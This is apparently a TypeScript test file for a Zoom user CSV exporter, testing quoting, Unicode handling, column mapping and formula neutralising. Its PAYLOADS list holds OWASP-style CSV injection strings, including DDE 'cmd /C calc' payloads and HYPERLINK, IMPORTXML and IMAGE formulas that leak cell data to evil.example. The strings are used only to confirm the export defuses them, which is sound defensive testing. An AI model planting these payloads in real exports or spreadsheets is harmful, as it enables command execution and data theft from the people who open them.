// CSV cells and lines of "Export Users to CSV": quoting, CJK, and formula neutralising.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CSV_BOM, csvCell, csvLine, userCsvHeader, userCsvLine, userCsvRow, type UserCsvContext } from '../../../src/tree/csv';
import type { ZoomUser } from '../../../src/zoom/types';
import { parse } from 'csv-parse/sync';
import { parseCsv } from './parseCsv';

const CONTEXT: UserCsvContext = {
  typeName: (type) => ({ 1: 'Basic', 2: 'Licensed' })[type] ?? String(type),
  roleName: (id) => ({ '0': 'Owner', '2': 'Member' })[id],
  groupName: (id) => ({ g1: 'Engineering', g2: 'Sales' })[id],
  hostKeys: false,
};

/** A whole CSV as the export writes it: header (with the attribute columns the users bring), then the rows. */
function csvOf(users: ZoomUser[], context = CONTEXT, fallbackStatus?: string): string {
  const rows = users.map((user) => userCsvRow(user, context, fallbackStatus));
  const names = [...new Set(rows.flatMap((row) => Object.keys(row.attributes ?? {})))].sort();
  return userCsvHeader(context, names) + rows.map((row) => userCsvLine(row, names)).join('');
}

test('plain cells stay bare; commas, quotes and line breaks are quoted', () => {
  assert.equal(csvCell('Alice'), 'Alice');
  assert.equal(csvCell('Smith, Jr.'), '"Smith, Jr."');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('two\nlines'), '"two\nlines"');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell(2), '2');
  assert.equal(csvCell(['g1', 'g2']), 'g1;g2');
});

test('cells that a spreadsheet would run as formulas get an apostrophe; numbers do not', () => {
  assert.equal(csvCell('=HYPERLINK("http://x")'), `"'=HYPERLINK(""http://x"")"`);
  assert.equal(csvCell('+1 555'), "'+1 555");
  assert.equal(csvCell('@admin'), "'@admin");
  assert.equal(csvCell('-5'), '-5');
  assert.equal(csvCell('+8'), '+8');
  assert.equal(csvCell('-2.5'), '-2.5');
});

test('a cell starting with -, tab or CR is neutralised unless it is a plain number; a lone CR is quoted', () => {
  assert.equal(csvCell('-2+3'), "'-2+3");
  assert.equal(csvCell('-cmd'), "'-cmd");
  assert.equal(csvCell('\tinfo'), "'\tinfo", 'a leading tab: some readers trim it and see what follows');
  assert.equal(csvCell('\rinfo'), `"'\rinfo"`, 'a leading CR, quoted as a line break');
  assert.equal(csvCell('a\rb'), '"a\rb"', 'a CR alone is a line break to RFC 4180 readers');
});

test('CJK names and every column round-trip through a CSV reader', () => {
  const user = {
    id: 'KDcuGIm1QgePTO8WbOqwIQ',
    email: 'wang.fang@example.com',
    type: 2,
    first_name: '芳',
    last_name: '王',
    display_name: '王芳, "研发"',
    status: 'active' as const,
    dept: '研发部',
    group_ids: ['g1', 'g2'],
  };
  const text = CSV_BOM + csvOf([user]) + csvOf([{ email: 'p@example.com', type: 1 }], CONTEXT, 'pending').split('\r\n')[1] + '\r\n';
  assert.ok(text.startsWith('\uFEFFid,email,'));
  const [header, first, pending] = parseCsv(text.slice(1));
  const get = (row: string[], name: string) => row[header.indexOf(name)];
  assert.equal(get(first, 'display_name'), '王芳, "研发"');
  assert.equal(get(first, 'last_name'), '王');
  assert.equal(get(first, 'group_ids'), 'g1;g2');
  assert.equal(get(pending, 'id'), '');
  assert.equal(get(pending, 'status'), 'pending');
  assert.equal(first.length, header.length);
  assert.equal(csvLine(['a', 'b']), 'a,b\r\n');
});

// OWASP "CSV Injection" and PayloadsAllTheThings payloads, plus the separator and full-width tricks.
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMAGE("http://evil.example/x.png")',
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '\n-1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  'Bob;=1+1',
  'Bob;"=1+1',
  'Bob; @SUM(1)',
  'Bob|=1+1',
  'Bob\t=1+1',
  'Bob,=1+1',
  'two\nlines\r\n=1+1',
  '＝1+1',
  'Bob；＝1+1',
  '﹦1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '⁼1',
];

/** Every cell a spreadsheet would see when it reads `text` with this list separator (quotes only count at a cell's start). */
function cellsAs(text: string, delimiter: string): string[] {
  return (parse(text, { delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
}

/** A cell that starts a formula: its first character past blanks and quotes folds (NFKC) to = + - @. */
function startsFormula(cell: string): boolean {
  const first = cell
    .replace(/^[\s"]+/, '')
    .slice(0, 1)
    .normalize('NFKC');
  return first !== '' && '=+-@'.includes(first) && !/^[+-]?\d+(\.\d+)?$/.test(cell.trim());
}

test('no cell of an export starts a formula in a comma, semicolon, tab or pipe locale (OWASP payloads)', () => {
  for (const payload of PAYLOADS) {
    const user = {
      id: payload,
      email: `${payload}@example.com`,
      type: 1,
      display_name: payload,
      first_name: payload,
      last_name: 'Smith',
      dept: `R&D ${payload}`,
      status: 'active' as const,
      group_ids: ['g1', payload],
    };
    const text = csvOf([user]);
    for (const delimiter of [',', ';', '\t', '|']) {
      const formula = cellsAs(text, delimiter).find(startsFormula);
      assert.equal(
        formula,
        undefined,
        `${JSON.stringify(payload)} gives the formula cell ${JSON.stringify(formula)} with separator ${JSON.stringify(delimiter)}`,
      );
    }
    // Read with the file's own separator, every column is still one cell and the text is all there.
    const [header, row] = parse(text, { relax_column_count: false }) as string[][];
    assert.equal(row.length, header.length, JSON.stringify(payload));
    assert.equal(row[header.indexOf('display_name')].replace(/'/g, ''), payload.replace(/'/g, ''), JSON.stringify(payload));
  }
});

test('the formula guard covers every character Unicode folds into = + - @', () => {
  for (let code = 0; code <= 0xffff; code++) {
    if (code >= 0xd800 && code < 0xe000) continue;
    const char = String.fromCharCode(code);
    if (char.length !== 1 || !'=+-@'.includes(char.normalize('NFKC'))) continue;
    assert.ok(csvCell(`${char}1+1`).startsWith("'"), `U+${code.toString(16)} ${char} at the start`);
    assert.ok(csvCell(`Bob;${char}1+1`).includes(`;'${char}`), `U+${code.toString(16)} ${char} after a semicolon`);
  }
});

test('every field List users returns has a column named as the API names it, with role and group names beside the ids', () => {
  const user: ZoomUser = {
    id: 'u1',
    email: 'a@example.com',
    first_name: 'Ann',
    last_name: 'Lee',
    display_name: 'Ann Lee',
    type: 2,
    status: 'active',
    role_id: '2',
    dept: 'R&D',
    timezone: 'Asia/Shanghai',
    language: 'zh-CN',
    verified: 1,
    pmi: 8123456789,
    employee_unique_id: 'E42',
    plan_united_type: '1',
    user_created_at: '2024-01-02T03:04:05Z',
    created_at: '2024-01-03T03:04:05Z',
    last_login_time: '2026-11-30T08:00:00Z',
    last_client_version: '6.2.0',
    group_ids: ['g1', 'g2', 'g9'],
    im_group_ids: ['im1'],
    division_ids: ['d1'],
    license_info_list: [{ license_type: 'MEETING', license_option: 2, subscription_id: 'SUBREF-1' }],
    custom_attributes: [
      { key: 'cbf_cost', name: 'Cost center', value: 'CC-1' },
      { key: 'cbf_badge', name: 'Badge', value: '=1+1' },
    ],
  };
  const [header, row] = parseCsv(csvOf([user, { email: 'b@example.com', type: 1 }]));
  assert.deepEqual(header, [
    'id',
    'email',
    'display_name',
    'first_name',
    'last_name',
    'type',
    'type_name',
    'status',
    'role_id',
    'role_name',
    'dept',
    'timezone',
    'language',
    'verified',
    'pmi',
    'employee_unique_id',
    'plan_united_type',
    'user_created_at',
    'created_at',
    'last_login_time',
    'last_client_version',
    'group_ids',
    'group_names',
    'im_group_ids',
    'division_ids',
    'license_info_list',
    'custom_attributes.Badge',
    'custom_attributes.Cost center',
  ]);
  const get = (name: string) => row[header.indexOf(name)];
  assert.deepEqual(
    row,
    [
      'u1',
      'a@example.com',
      'Ann Lee',
      'Ann',
      'Lee',
      '2',
      'Licensed',
      'active',
      '2',
      'Member',
      'R&D',
      'Asia/Shanghai',
      'zh-CN',
      '1',
      '8123456789',
      'E42',
      '1',
      '2024-01-02T03:04:05Z',
      '2024-01-03T03:04:05Z',
      '2026-11-30T08:00:00Z',
      '6.2.0',
      'g1;g2;g9',
      'Engineering;Sales;',
      'im1',
      'd1',
      JSON.stringify(user.license_info_list),
      "'=1+1",
      'CC-1',
    ],
    'every cell holds its own field',
  );
  assert.equal(get('type'), '2');
  assert.equal(get('type_name'), 'Licensed');
  assert.equal(get('role_name'), 'Member');
  assert.equal(get('group_names'), 'Engineering;Sales;', 'a group the app cannot name keeps its place, empty');
  assert.equal(get('pmi'), '8123456789');
  assert.deepEqual(JSON.parse(get('license_info_list')), user.license_info_list);
  assert.equal(get('custom_attributes.Cost center'), 'CC-1');
  assert.equal(get('custom_attributes.Badge'), "'=1+1", 'attribute values get the formula guard too');
  assert.ok(!header.includes('host_key'), 'no host key column unless asked');
});

test('the host_key column comes only with the opt-in, and a user without attributes has empty attribute cells', () => {
  const users: ZoomUser[] = [
    { id: 'u1', email: 'a@example.com', type: 1, host_key: '123456' },
    { id: 'u2', email: 'b@example.com', type: 1, custom_attributes: [{ name: 'Badge', value: '7' }] },
  ];
  const [header, first, second] = parseCsv(csvOf(users, { ...CONTEXT, hostKeys: true }));
  assert.equal(first[header.indexOf('host_key')], '123456');
  assert.equal(first[header.indexOf('custom_attributes.Badge')], '');
  assert.equal(second[header.indexOf('custom_attributes.Badge')], '7');
  assert.equal(first.length, header.length);
  assert.ok(!parseCsv(csvOf(users)).flat().includes('123456'), 'without the opt-in the key is not written even if Zoom sent it');
});

test('numbers, big integers and booleans are written as they are; null and undefined are empty', () => {
  assert.equal(csvCell(-5), '-5');
  assert.equal(csvCell(-1.5e-7), '-1.5e-7', 'a number is data even when its text does not look plain');
  assert.equal(csvCell(18014398509481985n), '18014398509481985');
  assert.equal(csvCell(false), 'false');
  assert.equal(csvCell(null), '');
  for (const plain of ['5', '12.5', '1.25', '-12.25', '+3']) assert.equal(csvCell(plain), plain, 'a plain number stays bare');
});

test('a user without a type has an empty type name; attributes are named by name, else key, and odd ones are skipped', () => {
  const user = {
    email: 'c@example.com',
    custom_attributes: [null, { key: 'cbf_x', value: 'by key' }, { name: 'N', value: 7 }, { name: '', value: 'nameless' }, { name: 5, value: 'numbered' }],
    group_ids: ['g1', 7, 'g2'],
    license_info_list: [],
  } as unknown as ZoomUser;
  const [header, row] = parseCsv(csvOf([user]));
  assert.equal(row[header.indexOf('group_names')], 'Engineering;Sales', 'only text ids are named');
  assert.equal(row[header.indexOf('license_info_list')], '', 'an empty license list is an empty cell');
  assert.ok(!header.includes('custom_attributes.5'), 'a name that is not text has no column');
  const odd = parseCsv(csvOf([{ email: 'd@example.com', type: 1, custom_attributes: 'CC-1' } as unknown as ZoomUser]))[0];
  assert.ok(!odd.some((h) => h.startsWith('custom_attributes.')), 'attributes that are not a list add no column');
  assert.equal(row[header.indexOf('type_name')], '');
  assert.equal(row[header.indexOf('custom_attributes.cbf_x')], 'by key');
  assert.equal(row[header.indexOf('custom_attributes.N')], '', 'a value that is not text is left empty');
  assert.ok(!header.includes('custom_attributes.'), 'an attribute without a name or key has no column');
});
